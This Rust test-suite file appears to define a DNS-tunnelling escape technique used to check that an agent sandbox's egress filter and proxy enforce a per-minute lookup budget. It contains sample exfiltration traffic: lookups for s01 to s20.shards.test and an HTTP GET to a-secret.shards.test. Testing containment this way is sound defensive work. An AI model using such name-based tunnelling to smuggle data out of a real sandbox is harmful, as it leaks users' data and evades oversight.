//! A tunnel in names under a wildcard.

use crate::prelude::*;

pub(super) const TECHNIQUE: Technique = Technique {
    id: "tunnel-under-wildcard",
    family: Family::Dns,
    name: "A tunnel in names under a wildcard",
    tries: "Asks for more names under an allowed suffix than its budget for a minute has, from the filter and from the proxy.",
    danger: "Each name takes what the agent puts into it to whoever runs the zone's servers.",
    places: Places::Everywhere,
    steps: &[
        Step::Do("asks for 20 names, s01.shards.test and so on", ask),
        Step::Tcp(Proxy, &[Bytes(b"GET http://a-secret.shards.test/ HTTP/1.1\r\nHost: a-secret.shards.test\r\n\r\n")]),
    ],
    expect: Expect {
        asks: &[
            "s01.shards.test",
            "s02.shards.test",
            "s03.shards.test",
            "s04.shards.test",
            "s05.shards.test",
            "s06.shards.test",
            "s07.shards.test",
            "s08.shards.test",
            "s09.shards.test",
            "s10.shards.test",
            "s11.shards.test",
            "s12.shards.test",
            "s13.shards.test",
            "s14.shards.test",
            "s15.shards.test",
            "s16.shards.test",
        ],
        refusals: &[refusals(4, "dns", "shards", "dns_budget_spent"), refusal("http", "shards", "dns_budget_spent")],
        ..NOTHING
    },
    on_host: None,
};

fn ask(inside: &Inside) -> std::io::Result<()> {
    (1..=20).try_for_each(|number| inside.ask(&format!("s{number:02}.shards.test"), A).map(drop))
}
